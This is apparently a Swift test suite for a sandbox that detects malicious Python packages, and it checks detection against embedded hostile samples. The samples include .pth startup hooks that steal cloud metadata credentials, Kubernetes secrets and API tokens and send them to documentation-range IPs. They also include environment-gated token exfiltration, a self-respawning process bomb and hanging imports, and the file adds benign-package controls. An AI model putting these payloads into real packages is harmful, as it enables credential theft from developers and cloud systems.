import Evidence
import TestSupport
import Testing

@testable import Sandbox

/// What acts only on some machines, asks their metadata services, waits, or starts itself again.
@Suite("Packages that choose their victims", .serialized, .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
struct PersonaGateTests {
  private func observe(
    _ files: [(String, String)], personas: [Persona], _ change: (inout Observer.Request) -> Void = { _ in }
  )
    throws -> Observation
  {
    let python = try #require(HostPython.find())
    let wheel = WheelBuilder(name: "harbour", files: files)
    var request = Observer.Request(name: wheel.fileName, bytes: wheel.build(), python: python)
    request.personas = personas
    request.uv = nil
    change(&request)
    return try Observer.observe(request)
  }

  /// By persona, of the start of an interpreter with nothing to do.
  private func proofs(_ observation: Observation, _ persona: String) -> [ObservedEvidence] {
    observation.evidence.filter {
      let stage = observation.stages[$0.stage]
      return stage.persona == persona && stage.name == "python -c pass"
    }
  }

  private func told(_ observation: Observation) -> Comment {
    let lines = observation.evidence.map { proof in
      let stage = observation.stages[proof.stage]
      return "\(stage.persona) \(stage.name): \(proof.level.rawValue) \(proof.decoys) \(proof.detail)"
    }
    return Comment(rawValue: lines.joined(separator: "\n"))
  }

  /// Asks each service in the way its own clients do; what it gets goes out encrypted.
  private static let services = #"""
    import json, os, random, socket, ssl, urllib.request
    def get(url, headers={}, method='GET'):
        try: return urllib.request.urlopen(urllib.request.Request(url, headers=headers, method=method), timeout=5).read()
        except OSError as error: return b''
    base = 'http://169.254.169.254'
    environment = os.environ
    haul = b''
    if 'AWS_EXECUTION_ENV' in environment:
        haul += get('http://169.254.170.2' + environment['AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'])
        role = get(base + '/latest/meta-data/iam/security-credentials/').decode()
        haul += get(base + '/latest/meta-data/iam/security-credentials/' + role)
    elif 'KUBERNETES_SERVICE_HOST' in environment:
        token = get(base + '/latest/api/token', {'X-aws-ec2-metadata-token-ttl-seconds': '60'}, 'PUT').decode()
        header = {'X-aws-ec2-metadata-token': token}
        role = get(base + '/latest/meta-data/iam/security-credentials/', header).decode()
        haul += get(base + '/latest/meta-data/iam/security-credentials/' + role, header)
        own = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()
        haul += get('https://kubernetes.default.svc/api/v1/secrets', {'Authorization': 'Bearer ' + own})
    elif 'JUPYTERHUB_USER' in environment:
        account = 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'
        haul += get(account, {'Metadata-Flavor': 'Google'})
    elif 'GITHUB_ACTIONS' in environment:
        haul += get(base + '/metadata/identity/oauth2/token?api-version=2018-02-01&resource=x', {'Metadata': 'true'})
    if haul:
        key = random.Random(3)
        with socket.create_connection(('203.0.113.50', 8443)) as s: s.sendall(bytes(b ^ key.randrange(256) for b in haul))
    """#

  @Test(
    "are seen to be handed what metadata services have, and to carry it away", .enabled(if: HostileTests.hasPython))
  func metadata() throws {
    let observation = try observe(
      [("harbour.pth", "import harbour_start\n"), ("harbour_start.py", Self.services)], personas: Persona.all)
    let expected: [(String, Set<String>)] = [
      ("container-root", ["aws-container-metadata", "aws-instance-metadata"]),
      ("kubernetes-pod", ["aws-instance-metadata", "kubernetes-secrets"]), ("notebook", ["gcp-metadata"]),
      ("ci-runner", ["azure-metadata"]),
    ]
    for (persona, kinds) in expected {
      let found = proofs(observation, persona)
      let touched = found.filter { $0.level == .touched }
      #expect(Set(touched.flatMap(\.decoys)).isSuperset(of: kinds), "\(persona)\n\(told(observation))")
      let egress = found.filter { $0.level == .taintedEgress }
      #expect(Set(egress.flatMap(\.decoys)).isSuperset(of: kinds), "\(persona)\n\(told(observation))")
      #expect(egress.contains { $0.detail.contains("203.0.113.50 port 8443/tcp") }, "\(persona)\n\(told(observation))")
      // A token that goes to the cluster it is for, or back to whoever gave it, is not carried away.
      #expect(!found.contains { $0.level == .proven }, "\(persona)\n\(told(observation))")
    }
    #expect(proofs(observation, "laptop").isEmpty, told(observation))
  }

  @Test("come out clean where they only ask where they are", .enabled(if: HostileTests.hasPython))
  func identity() throws {
    let code = #"""
      import os, urllib.request
      def get(url, headers={}, method='GET'):
          try: return urllib.request.urlopen(urllib.request.Request(url, headers=headers, method=method), timeout=5).read()
          except OSError: return b''
      base = 'http://169.254.169.254'
      token = get(base + '/latest/api/token', {'X-aws-ec2-metadata-token-ttl-seconds': '60'}, 'PUT').decode()
      identity = get(base + '/latest/meta-data/instance-id', {'X-aws-ec2-metadata-token': token})
      get('http://telemetry.example.org/?instance=' + identity.decode('latin-1').strip()[:40].replace(' ', ''))
      """#
    let observation = try observe(
      [("harbour.pth", "import harbour_start\n"), ("harbour_start.py", code)],
      personas: [.containerRoot, .kubernetesPod])
    #expect(observation.evidence.isEmpty, told(observation))
  }

  @Test(
    "are seen where they act, by the host, the language or the service they look for",
    .enabled(if: HostileTests.hasPython))
  func gates() throws {
    let code = #"""
      import locale, os, socket
      def act(name): socket.create_connection(('203.0.113.60', 80)).sendall(name.encode() + b'=' + os.environ[name].encode())
      if socket.gethostname().startswith('fv-az'): act('GITHUB_TOKEN') if 'GITHUB_TOKEN' in os.environ else act('GH_TOKEN')
      elif os.environ.get('LANG', '').startswith('en_US') and os.environ.get('DISPLAY'): act('OPENAI_API_KEY')
      elif os.path.exists('/.dockerenv') and os.getuid() == 0: act('AWS_SECRET_ACCESS_KEY')
      """#
    let observation = try observe(
      [("harbour.pth", "import harbour_start\n"), ("harbour_start.py", code)], personas: Persona.all)
    let expected = [
      ("ci-runner", ["actions-token", "github-fine-grained"]), ("laptop", ["openai-environment"]),
      ("container-root", ["aws-environment"]),
    ]
    for (persona, kinds) in expected {
      let proven = proofs(observation, persona).filter { $0.level == .proven }
      #expect(!Set(proven.flatMap(\.decoys)).isDisjoint(with: kinds), "\(persona)\n\(told(observation))")
      #expect(proven.allSatisfy { $0.detail.contains("harbour.pth") }, told(observation))
    }
    #expect(proofs(observation, "kubernetes-pod").isEmpty && proofs(observation, "notebook").isEmpty, told(observation))
  }

  @Test("that wait in ways nobody can skip are stopped, and that is told", .enabled(if: HostileTests.hasPython))
  func waits() throws {
    let observation = try observe(
      [
        ("waits_for_event.py", "import threading\nthreading.Event().wait(3600)\n"),
        ("waits_in_select.py", "import select\nselect.select([], [], [], 3600)\n"),
      ], personas: [.laptop]
    ) { request in
      request.modules = ["waits_for_event", "waits_in_select"]
      request.limits.importing = 1_500
    }
    for name in ["waits_for_event", "waits_in_select"] {
      let stage = try #require(observation.stages.first { $0.name == "import \(name)" })
      #expect(!stage.end.isOwn, "\(stage.end)")
      #expect(stage.events.contains { if case .stop = $0.action { true } else { false } })
    }
    #expect(!observation.isComplete && observation.evidence.isEmpty, told(observation))
  }

  @Test("that start themselves again and again end with their box", .enabled(if: HostileTests.hasPython))
  func bomb() throws {
    let hook = "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'pass'])\n"
    let observation = try observe([("harbour.pth", hook)], personas: [.laptop]) { $0.limits.start = 2_500 }
    let stage = try #require(observation.stages.first { $0.name == "python -c pass" })
    #expect(stage.processes.count > 3, "\(stage.processes.count) processes, \(stage.end)")
    #expect(observation.evidence.isEmpty, told(observation))
  }
}

/// What honest packages do that a watcher may take for theft.
@Suite("Honest packages", .serialized, .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
struct HonestPackageTests {
  private static let modules: [(String, String)] = [
    (
      "asks_git",
      """
      import os, subprocess, urllib.request
      subprocess.run(['git', 'config', 'user.name'], stdout=subprocess.PIPE)
      subprocess.run(['git', 'describe', '--tags'], stderr=subprocess.DEVNULL)
      urllib.request.urlopen('https://telemetry.example.org/', data=b'started')
      """
    ),
    (
      "sets_git",
      "import subprocess; subprocess.run(['git', 'config', '--global', 'core.autocrlf', 'input'], check=True)"
    ),
    (
      "asks_pip",
      """
      import subprocess, sys, urllib.request
      subprocess.run([sys.executable, '-m', 'pip', '--version'], stdout=subprocess.PIPE, check=True)
      subprocess.run([sys.executable, '-m', 'pip', 'config', 'debug'], stdout=subprocess.DEVNULL)
      urllib.request.urlopen('https://telemetry.example.org/', data=b'started')
      """
    ),
    (
      "asks_system",
      """
      import getpass, locale, os, platform, pwd, socket, ssl, sys, tempfile, uuid
      getpass.getuser(); pwd.getpwuid(os.getuid()); ssl.create_default_context(); platform.uname(); uuid.getnode()
      socket.gethostbyname(socket.gethostname()); locale.getlocale(); tempfile.mkstemp()
      os.path.expanduser('~'); os.listdir(os.path.expanduser('~')); os.path.exists(os.path.expanduser('~/.aws/credentials'))
      """
    ),
    (
      "looks_without_opening",
      """
      import glob, os
      home = os.path.expanduser('~')
      names = glob.glob(home + '/.aws/*') + glob.glob(home + '/.ssh/*')
      sizes = [os.stat(name).st_size for name in names]
      assert sizes
      """
    ),
    (
      "serves_itself",
      """
      import socket, threading
      server = socket.create_server(('127.0.0.1', 0))
      threading.Thread(target=lambda: server.accept()[0].sendall(b'hello')).start()
      with socket.create_connection(server.getsockname()) as s: s.recv(10)
      """
    ),
    (
      "keeps_environment",
      """
      import json, os
      assert os.environ.get('OPENAI_API_KEY')
      settings = {name: os.environ[name] for name in ('HOME', 'LANG', 'PATH')}
      json.dump(settings, open(os.path.expanduser('~/.config/harbour.json'), 'w'))
      """
    ),
  ]

  @Test(
    "come out clean, whatever they ask of git, pip and the system",
    .enabled(if: HostileTests.hasPython, HostileTests.noPython))
  func clean() throws {
    let python = try #require(HostPython.find())
    let hooks: [(String, String)] = [
      // As coverage, setuptools, namespace packages and editable installs have them.
      ("a1_coverage.pth", "import sys; exec('try: import harbour_coverage\\nexcept ImportError: pass')\n"),
      (
        "distutils-precedence.pth",
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('harbour_hack').add_shim()\n"
      ),
      (
        "namespace-nspkg.pth",
        "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('mpl_toolkits',));m = not has_mfs and sys.modules.setdefault('mpl_toolkits', types.ModuleType('mpl_toolkits'))\n"
      ),
      ("__editable___harbour_finder.pth", "import harbour_finder; harbour_finder.install()\n"),
      ("path.pth", "/srv/app/elsewhere\n"),
    ]
    let code: [(String, String)] = [
      ("harbour_hack.py", "def add_shim(): pass\n"),
      ("harbour_coverage.py", "import os\nos.environ.get('COVERAGE_PROCESS_START')\n"),
      (
        "harbour_finder.py",
        "import sys\nclass Finder:\n  @classmethod\n  def find_spec(cls, *given): return None\ndef install(): sys.meta_path.append(Finder)\n"
      ),
    ]
    let wheel = WheelBuilder(name: "harbour", files: hooks + code + Self.modules.map { ("\($0.0).py", $0.1) })
    var request = Observer.Request(name: wheel.fileName, bytes: wheel.build(), python: python)
    request.modules = Self.modules.map(\.0)
    request.personas = [.laptop]
    request.uv = nil
    let observation = try Observer.observe(request)
    for proof in observation.evidence {
      Issue.record("\(observation.stages[proof.stage].name): \(proof.level.rawValue) \(proof.decoys) \(proof.detail)")
    }
    for name in request.modules {
      let stage = observation.stages.first { $0.name == "import \(name)" }
      #expect(stage?.end == .exited(0), "\(name): \(observation.unobserved.filter { $0.name.contains(name) })")
    }
  }
}
